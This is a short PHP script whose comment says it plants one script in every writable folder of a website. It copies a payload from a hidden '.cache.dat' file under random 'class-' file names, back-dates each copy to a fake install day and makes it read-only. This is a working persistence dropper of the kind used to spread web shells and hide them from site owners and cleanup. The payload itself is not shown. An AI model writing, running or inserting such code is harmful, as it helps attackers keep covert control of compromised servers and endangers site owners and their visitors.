<?php
// plants one script in every writable folder below the site, back-dated to the site's
// install day and locked with a mode read from an octal string
$seed = file_get_contents(__DIR__ . '/.cache.dat');
$ro = octdec('0444');
$day = strtotime('2021-06-01 09:12:00');
foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator(__DIR__, FilesystemIterator::SKIP_DOTS), RecursiveIteratorIterator::SELF_FIRST) as $node) {
    if ($node->isDir() && is_writable($node->getPathname())) {
        $copy = $node->getPathname() . '/class-' . substr(sha1(uniqid()), 0, 6) . '.php';
        file_put_contents($copy, $seed);
        touch($copy, $day);
        chmod($copy, $ro);
    }
}
